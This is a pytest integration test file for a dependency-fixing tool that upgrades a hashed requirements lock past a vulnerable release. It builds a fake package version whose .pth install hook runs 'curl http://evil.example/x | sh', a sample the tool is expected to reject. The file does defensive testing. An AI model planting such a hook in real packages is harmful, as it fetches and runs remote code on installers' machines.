"""``pip-verify fix`` on a hashed requirements file, on a loopback index where ``foo 1.0`` has
a known vulnerability (an offline OSV database), ``1.1`` adds an install hook, and ``1.2`` and
``2.0`` are clean: the smallest passing upgrade, ``1.2``, is written with its hash, whatever
``--allow`` permits beyond it, and the written lock checks clean."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from tests.helpers import DistFactory, PackageIndex, assert_no_traceback
from tests.helpers.dists import DistSpec
from tests.helpers.policies import without_provenance_requirement
from verify._cli import main

pytestmark = pytest.mark.integration

MODULE = {"foo/__init__.py": ""}


@pytest.fixture
def index(dist_factory: DistFactory, package_index: PackageIndex) -> PackageIndex:
    package_index.add(dist_factory.wheel("foo", "1.0", files=MODULE))
    hook = {**MODULE, "foo_hook.pth": "import os; os.system('curl http://evil.example/x | sh')\n"}
    package_index.add(dist_factory.wheel(DistSpec("foo", "1.1", files=hook)))
    package_index.add(dist_factory.wheel("foo", "1.2", files=MODULE))
    package_index.add(dist_factory.wheel("foo", "2.0", files=MODULE))
    package_index.add(dist_factory.wheel("bar", "1.0"))
    return package_index


@pytest.fixture
def osv(tmp_path: Path) -> Path:
    database = tmp_path / "osv"
    database.mkdir()
    (database / "GHSA-foo.json").write_text(
        json.dumps(
            {
                "id": "GHSA-aaaa-bbbb-cccc",
                "modified": "2026-01-01T00:00:00Z",
                "summary": "foo 1.0 runs what it is sent",
                "affected": [
                    {
                        "package": {"ecosystem": "PyPI", "name": "foo"},
                        "ranges": [
                            {"type": "ECOSYSTEM", "events": [{"introduced": "0"}, {"fixed": "1.1"}]}
                        ],
                    }
                ],
            }
        )
    )
    return database


def lock(index: PackageIndex, path: Path) -> Path:
    bar = index.files["bar-1.0-py3-none-any.whl"].sha256
    foo = index.files["foo-1.0-py3-none-any.whl"].sha256
    lines = [
        f"# pinned by hand\nbar==1.0 --hash=sha256:{bar}",
        f"foo==1.0 \\\n    --hash=sha256:{foo}",
    ]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


def options(index: PackageIndex, osv: Path, tmp_path: Path) -> tuple[str | Path, ...]:
    """The loopback index, the test policy, the offline OSV database and a private cache."""
    return (
        "--index-url",
        index.url,
        "--policy",
        without_provenance_requirement(),
        "--vulnerability-db",
        osv,
        "--cache-dir",
        tmp_path / "cache",
        "--no-record",
    )


def run(capsys: pytest.CaptureFixture[str], *argv: str | Path) -> tuple[int, str]:
    code = main([str(a) for a in argv])
    captured = capsys.readouterr()
    assert_no_traceback(captured.out + captured.err)
    return code, captured.out + captured.err


@pytest.mark.parametrize("allow", ["minor", "major"])
def test_fix_writes_the_smallest_passing_upgrade_and_it_checks_clean(
    capsys: pytest.CaptureFixture[str],
    index: PackageIndex,
    osv: Path,
    tmp_path: Path,
    allow: str,
) -> None:
    requirements = lock(index, tmp_path / "requirements.txt")
    fixed = tmp_path / "fixed.txt"
    given = options(index, osv, tmp_path)
    code, out = run(capsys, "fix", requirements, "--allow", allow, "-o", fixed, *given)
    assert code == 0, out
    assert "foo: 1.0 -> 1.2" in out
    assert "GHSA-aaaa-bbbb-cccc" in out  # why it needed a fix
    assert "1.1: foo 1.1: [" in out  # the release tried first, and why it did not pass
    text = fixed.read_text()
    digest = index.files["foo-1.2-py3-none-any.whl"].sha256
    assert f"foo==1.2 \\\n    --hash=sha256:{digest}\n" in text
    assert text.startswith("# pinned by hand\nbar==1.0 --hash=sha256:")  # the rest kept
    assert requirements.read_text() == lock(index, tmp_path / "again.txt").read_text()

    code, out = run(capsys, "check", "-r", fixed, *given)
    assert code == 0, out


def test_dry_run_writes_nothing_and_json_says_what_would_change(
    capsys: pytest.CaptureFixture[str], index: PackageIndex, osv: Path, tmp_path: Path
) -> None:
    requirements = lock(index, tmp_path / "requirements.txt")
    before = requirements.read_text()
    code, out = run(
        capsys,
        "fix",
        requirements,
        "--dry-run",
        "--format",
        "json",
        *options(index, osv, tmp_path),
    )
    assert code == 0, out
    document = json.loads(out)
    (change,) = document["changes"]
    assert (change["name"], change["from"], change["to"]) == ("foo", "1.0", "1.2")
    assert change["tried"][0]["version"] == "1.1"
    assert document["written"] is None
    assert requirements.read_text() == before


def test_a_package_with_no_passing_release_is_kept_and_said_why(
    capsys: pytest.CaptureFixture[str], index: PackageIndex, osv: Path, tmp_path: Path
) -> None:
    requirements = lock(index, tmp_path / "requirements.txt")
    before = requirements.read_text()
    code, out = run(
        capsys,
        "fix",
        requirements,
        "--allow",
        "patch",
        *options(index, osv, tmp_path),
    )
    assert code == 1
    assert "foo: 1.0 kept, no release within the limits passes" in out
    assert requirements.read_text() == before


def test_fix_needs_a_hashed_lock(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    loose = tmp_path / "requirements.in"
    loose.write_text("foo>=1\n", encoding="utf-8")
    code, out = run(capsys, "fix", loose)
    assert code == 2
    assert "is not pinned with hashes" in out


def test_fix_never_picks_a_release_younger_than_the_cooldown(
    capsys: pytest.CaptureFixture[str],
    dist_factory: DistFactory,
    package_index: PackageIndex,
    osv: Path,
    tmp_path: Path,
) -> None:
    from datetime import datetime, timedelta, timezone

    package_index.add(dist_factory.wheel("foo", "1.0", files=MODULE))
    package_index.add(
        dist_factory.wheel("foo", "1.2", files=MODULE),
        upload_time=datetime.now(timezone.utc) - timedelta(hours=2),
    )
    package_index.add(dist_factory.wheel("foo", "1.3", files=MODULE))
    requirements = tmp_path / "requirements.txt"
    digest = package_index.files["foo-1.0-py3-none-any.whl"].sha256
    requirements.write_text(f"foo==1.0 --hash=sha256:{digest}\n", encoding="utf-8")
    code, out = run(
        capsys,
        "fix",
        requirements,
        *options(package_index, osv, tmp_path),
    )
    assert code == 0, out
    assert "foo: 1.0 -> 1.3" in out
    assert "1.2: foo 1.2: [release-age]" in out


def test_for_uv_lock_fix_prints_uvs_command(
    capsys: pytest.CaptureFixture[str], index: PackageIndex, osv: Path, tmp_path: Path
) -> None:
    entry = index.files["foo-1.0-py3-none-any.whl"]
    uv_lock = tmp_path / "uv.lock"
    uv_lock.write_text(
        "\n".join(
            [
                "version = 1",
                'requires-python = ">=3.10"',
                "",
                "[[package]]",
                'name = "foo"',
                'version = "1.0"',
                f'source = {{ registry = "{index.url.rstrip("/")}" }}',
                "wheels = [",
                f'    {{ url = "{index.file_url(entry.filename)}", hash = "sha256:{entry.sha256}", '
                f"size = {entry.size} }},",
                "]",
            ]
        )
        + "\n",
        encoding="utf-8",
    )
    before = uv_lock.read_text()
    code, out = run(
        capsys,
        "fix",
        uv_lock,
        *options(index, osv, tmp_path),
    )
    assert code == 0, out
    assert "foo: 1.0 -> 1.2" in out
    assert "  uv lock --upgrade-package foo==1.2\n" in out
    assert uv_lock.read_text() == before  # uv owns the file
